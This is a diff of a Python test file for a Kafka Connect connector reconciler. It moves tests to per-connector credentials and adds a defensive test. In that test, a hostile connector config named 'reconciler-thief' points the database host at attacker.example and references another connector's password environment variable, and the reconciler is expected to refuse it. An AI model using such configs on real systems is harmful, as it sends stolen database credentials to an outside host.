@@ -14,7 +14,7 @@ import urllib.request
 import pytest
 
 from tests.runtime.cloudformation import Context, ResponseServer, event
-from tests.runtime.conftest import WRONG_CREDENTIALS_PREFIX
+from tests.runtime.conftest import WRONG_PASSWORD_CONNECTOR
 from tests.runtime_code.lambda_modules import load
 from tests.support import resources
 
@@ -37,7 +37,8 @@ def declared(synthesized, runtime):
     config = {**properties["Config"], "database.hostname": "127.0.0.1", "database.port": str(runtime.postgres.port),
               "slot.name": "reconciler_accounts", "topic.prefix": "reconciler.accounts"}
     # The template waits 15 s for a connector to hold its state; 5 s keeps this tier within its minutes.
-    properties.update(ConnectUrl=runtime.connect_url, ConnectorName=NAME, Config=config, TimeoutSeconds=180,
+    properties.update(ConnectUrl=runtime.connect_url, ConnectorName=NAME, Config=runtime.own_credentials(NAME, config),
+                      TimeoutSeconds=180,
                       StableSeconds=5)
     return logical_id, properties
 
@@ -87,18 +88,17 @@ def test_a_connector_with_a_wrong_password_is_reported_with_the_database_answer(
                                                                                  response_server, caplog):
     caplog.set_level(logging.INFO)
     logical_id, properties = declared
-    config = {**properties["Config"], "database.user": f"${{env:{WRONG_CREDENTIALS_PREFIX}_USER}}",
-              "database.password": f"${{env:{WRONG_CREDENTIALS_PREFIX}_PASSWORD}}",
+    config = {**runtime.own_credentials(WRONG_PASSWORD_CONNECTOR, properties["Config"]),
               "slot.name": "reconciler_wrong", "topic.prefix": "reconciler.wrong"}
-    failed = call("Create", {**properties, "ConnectorName": "reconciler-wrong", "Config": config}, response_server,
-                  logical_id)
+    failed = call("Create", {**properties, "ConnectorName": WRONG_PASSWORD_CONNECTOR, "Config": config},
+                  response_server, logical_id)
     assert failed["Status"] == "FAILED"
     assert "password authentication failed" in failed["Reason"]
     assert "not-the-password" not in failed["Reason"] and "not-the-password" not in caplog.text
     assert "reconciler-wrong" not in connect_get(runtime, "/connectors")
 
 
-def test_operations_succeed_through_a_real_rebalance(runtime, declared, response_server, caplog):
+def test_operations_succeed_through_a_real_rebalance(runtime, declared, response_server, caplog, monkeypatch):
     """A second worker joins while the connector is being changed, and the changes go to that worker: until it has
     joined the group it answers 503 on /health (and 404, or 409, for what it has not read); the reconciler retries
     until the worker is ready, then updates the connector through the new group."""
@@ -111,6 +111,7 @@ def test_operations_succeed_through_a_real_rebalance(runtime, declared, response
     assert _wait_for_port(port), joining.process.tail()
     changed = {**properties, "ConnectUrl": joining.url,
                "Config": {**properties["Config"], "heartbeat.interval.ms": "4321"}}
+    monkeypatch.setenv("CONNECT_URL", joining.url)  # a reconciler deployed for the joining worker's address
     updated = call("Update", changed, response_server, logical_id, physical_id=NAME, old_properties=properties)
     assert (updated["Status"], updated["Data"]) == ("SUCCESS", {"Action": "updated", "State": "RUNNING"}), updated
     retried = [r.getMessage() for r in caplog.records if "(attempt " in r.getMessage()]
@@ -130,3 +131,20 @@ def _wait_for_port(port: int, timeout: float = 60) -> bool:
                 return True
         time.sleep(0.05)
     return False
+
+
+def test_the_reconciler_refuses_another_connectors_credentials_and_another_connect(runtime, declared,
+                                                                                   response_server):
+    """The attack the security review described: a connector config reading another database's password, or an
+    event pointing the reconciler at another Connect cluster. Both are refused before Connect is called."""
+    logical_id, properties = declared
+    stolen = {**properties, "ConnectorName": "reconciler-thief",
+              "Config": {**properties["Config"], "database.hostname": "attacker.example",
+                         "database.password": "${env:DBZ_PAYMENTS_CDC_PASSWORD}"}}
+    refused = call("Create", stolen, response_server, logical_id)
+    assert refused["Status"] == "FAILED"
+    assert "database.password refers to ${env:DBZ_PAYMENTS_CDC_PASSWORD}, which is not connector " \
+           "reconciler-thief's own" in refused["Reason"]
+    elsewhere = call("Create", {**properties, "ConnectUrl": "http://127.0.0.1:1"}, response_server, logical_id)
+    assert elsewhere["Status"] == "FAILED" and "is not this reconciler's Connect cluster" in elsewhere["Reason"]
+    assert "reconciler-thief" not in connect_get(runtime, "/connectors")
